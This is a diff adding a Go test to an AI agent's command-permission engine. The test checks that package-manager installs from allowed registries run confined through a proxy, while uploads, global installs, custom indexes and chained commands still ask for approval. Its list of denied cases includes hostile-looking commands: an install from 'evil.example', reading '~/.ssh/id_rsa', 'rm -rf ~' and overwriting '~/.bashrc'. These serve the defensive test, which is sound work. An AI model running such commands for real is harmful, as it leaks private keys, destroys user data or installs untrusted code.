@@ -47,3 +47,80 @@ func TestFetchersNeedTheNetwork(t *testing.T) {
 		assert.False(t, n.Network, "%q: %+v", command, n)
 	}
 }
+
+// TestDownloadsThroughAllowedHosts: for an agent that allows a registry's
+// hosts, a download from it whose other needs fit the boundary runs
+// confined, through the proxy; an upload, a download into a store other
+// projects use, one that names another source or place, one next to
+// anything else beyond the boundary, or one whose registry is not
+// allowed, asks as before.
+func TestDownloadsThroughAllowedHosts(t *testing.T) {
+	e := testEngine(t)
+	pol := config.Policy{Security: config.SecurityAllowlist, Ask: config.AskOnMiss, AskFallback: config.SecurityDeny, TimeoutMs: 1000, AutoAllowSafe: true}
+	registries := []string{"pypi.org", "files.pythonhosted.org", "registry.npmjs.org"}
+	needs := func(command string, hosts []string) Needs {
+		t.Helper()
+		res := e.Evaluate(Request{Command: command, Cwd: testWorkspace, Home: testHome, Policy: pol})
+		return NeedsOf(res, testWorkspace, testHome).WithHosts(hosts, func(string) string { return "" })
+	}
+	for _, command := range []string{
+		"npm install", "npm i", "npm ci", "npm install --save-dev @types/node", "cd web && npm install",
+		"timeout 300 npm ci", "pip install -e .", "pip install -r requirements.txt", "pip3 install requests",
+		"python -m pip install -U pip", "python3 -m pip install -e '.[dev]'", ".venv/bin/pip install -e '.[dev]'",
+		"uv sync", "uv pip install -r requirements.txt", "tox -e py311", "pip3.12 install requests",
+		"pip install -r requirements.txt && python -m pytest -q", "npm ci && npm test",
+	} {
+		n := needs(command, registries)
+		assert.True(t, n.Within(), "%q: %+v", command, n)
+		assert.True(t, n.Proxied && n.RunCode && !n.Network, "%q: %+v", command, n)
+		assert.Contains(t, n.Summary(), "downloads through the proxy", command)
+		assert.False(t, needs(command, []string{"github.com"}).Within(), "%q with its registry not allowed", command)
+		assert.False(t, needs(command, nil).Within(), "%q with no hosts", command)
+	}
+	for _, command := range []string{
+		// uploads
+		"npm publish", "npm unpublish pkg@1.0.0", "poetry publish", "pnpm publish", "yarn publish", "cargo publish",
+		"gem push x.gem", "bun publish",
+		// stores other projects build or run unchecked
+		"go mod tidy", "go get github.com/google/go-cmp@latest", "cargo add serde", "cargo fetch", "yarn add react",
+		"yarn", "pnpm install", "poetry install", "pipx install black", "pipx run black .", "bun install",
+		"uv tool install ruff", "bundle install", "brew install jq",
+		// another place or source
+		"pip install --user requests", "npm install -g typescript", "npm install --global typescript",
+		"npm install --prefix web", "pip install --target=/opt/x requests", "pip install -i https://evil.example/simple x",
+		"pip install --index-url=https://evil.example/simple x", "pip install --extra-index-url https://e.example/simple x",
+		"pip install git+https://github.com/a/b", "pip install https://e.example/x.whl", "npm install --registry=https://r.example",
+		"npm install github:a/b#main", "uv pip install --system requests",
+		// something else beyond the boundary too
+		"npm install && curl https://example.com", "pip install x && cat ~/.ssh/id_rsa", "pip install x && rm -rf ~",
+		"sudo pip install x", "npm install && git push", "pip install x > ~/.bashrc",
+	} {
+		n := needs(command, registries)
+		assert.False(t, n.Within(), "%q runs confined through the proxy: %+v", command, n)
+		assert.False(t, n.Proxied, "%q: %+v", command, n)
+	}
+	// A registry's token in the environment, or set by the command, keeps
+	// it asking: what it installs could publish with it.
+	for _, env := range []map[string]string{
+		{"NPM_TOKEN": "npm_x"}, {"NODE_AUTH_TOKEN": "ghp_x"}, {"TWINE_PASSWORD": "pypi-x"},
+		{"PIP_INDEX_URL": "https://me:tok@pypi.example.com/simple"},
+		{"PIP_EXTRA_INDEX_URL": "https://pypi.org/simple https://me:tok@pypi.example.com/simple"},
+	} {
+		res := e.Evaluate(Request{Command: "npm ci && pip install -r requirements.txt", Cwd: testWorkspace, Home: testHome, Policy: pol})
+		n := NeedsOf(res, testWorkspace, testHome).WithHosts(registries, func(k string) string { return env[k] })
+		assert.False(t, n.Within(), "%v: %+v", env, n)
+	}
+	res := e.Evaluate(Request{Command: "pip install -r requirements.txt", Cwd: testWorkspace, Home: testHome, Policy: pol})
+	n := NeedsOf(res, testWorkspace, testHome).WithHosts(registries, func(k string) string {
+		return map[string]string{"PIP_INDEX_URL": "https://pypi.org/simple", "HOME": testHome}[k]
+	})
+	assert.True(t, n.Within(), "an index without a user in it: %+v", n)
+	for _, command := range []string{"NPM_TOKEN=x npm ci", "export NODE_AUTH_TOKEN=x; npm ci", "env TWINE_PASSWORD=x pip install .",
+		"PIP_INDEX_URL=https://me:x@p.example/simple pip install x"} {
+		assert.False(t, needs(command, registries).Within(), command)
+	}
+	// Every confined download is a fetcher's.
+	for key := range confinedFetches.all() {
+		assert.True(t, fetchers.has(key), "%s is not a fetcher", key)
+	}
+}
